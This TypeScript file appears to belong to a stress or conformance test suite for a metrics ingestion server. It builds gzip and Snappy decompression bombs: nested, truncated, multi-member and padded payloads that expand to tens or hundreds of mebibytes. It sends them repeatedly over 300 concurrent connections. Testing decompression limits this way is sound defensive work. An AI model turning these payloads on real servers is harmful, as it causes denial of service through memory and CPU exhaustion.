import { gzipSync } from "node:zlib";
import { snappyFrame, snappyStream } from "../../../conformance/snappy.ts";
import { type Attack, inTurn, keepSending, requestBytes } from "./target.ts";

const mebibyte = 1024 * 1024;
/** At a time. */
const connections = 300;

/** A comment, so that what may be inflated has to be read as well. */
const comment = (size: number) => Buffer.alloc(size, "# nothing but a long comment\n");
const strongest = { level: 9 };

/** Small bodies that are large inside: in one member, in many, in another gzip, and cut off. */
export const gzipBombs: Attack = (target) => {
  const atLimit = gzipSync(comment(32 * mebibyte), strongest);
  const beyond = gzipSync(Buffer.alloc(128 * mebibyte), strongest);
  const member = gzipSync(comment(mebibyte), strongest);
  const bombs = [
    atLimit,
    gzipSync(comment(33 * mebibyte), strongest),
    beyond,
    times(31, member),
    times(1024, member),
    times(100_000, gzipSync("")),
    gzipSync(beyond, strongest),
    atLimit.subarray(0, -9),
    // Small enough to be inflated on the spot.
    gzipSync(comment(15 * mebibyte), strongest),
    gzipSync(Buffer.alloc(15 * mebibyte), strongest),
  ];
  return sendAll(target, "gzip", bombs);
};

/** The same in Snappy's frames, which hold 64 KiB each; and frames of nothing. */
export const snappyBombs: Attack = (target) => {
  const frame = repetition("# nothing but a long comment\n", 64 * 1024);
  const padding = Buffer.from([0xfe, 0, 0, 0]);
  const emptyFrame = snappyFrame(Buffer.of(0), Buffer.alloc(0));
  const bombs = [
    snappyStream([times(512, frame)]),
    snappyStream([times(513, frame)]),
    snappyStream([times(4, frame)]),
    snappyStream([times(mebibyte / 16, padding)]),
    snappyStream([times(20_000, emptyFrame)]),
  ];
  return sendAll(target, "snappy", bombs);
};

function sendAll(target: Parameters<Attack>[0], encoding: string, bombs: readonly Buffer[]): () => void {
  const requests = bombs.map((body, i) => {
    const request = requestBytes({
      path: `/metrics/job/hostile-bomb/kind/${i}`,
      headers: { "Content-Encoding": encoding },
      body,
    });
    return () => request;
  });
  return keepSending(target, { connections, next: inTurn(requests) });
}

function times(count: number, part: Buffer): Buffer {
  return Buffer.alloc(count * part.length, part);
}

/** One frame with the text, of less than 60 bytes, again and again: a literal, and copies of 64 bytes in three bytes each. */
function repetition(text: string, size: number): Buffer {
  const content = Buffer.alloc(size, text);
  // Preamble: the length as a varint of three bytes.
  const parts = [Buffer.of((size & 0x7f) | 0x80, ((size >> 7) & 0x7f) | 0x80, size >> 14)];
  parts.push(Buffer.of((text.length - 1) << 2), Buffer.from(text));
  for (let at = text.length; at < size; at += 64)
    parts.push(Buffer.of(((Math.min(64, size - at) - 1) << 2) | 2, text.length, 0));
  return snappyFrame(Buffer.concat(parts), content);
}
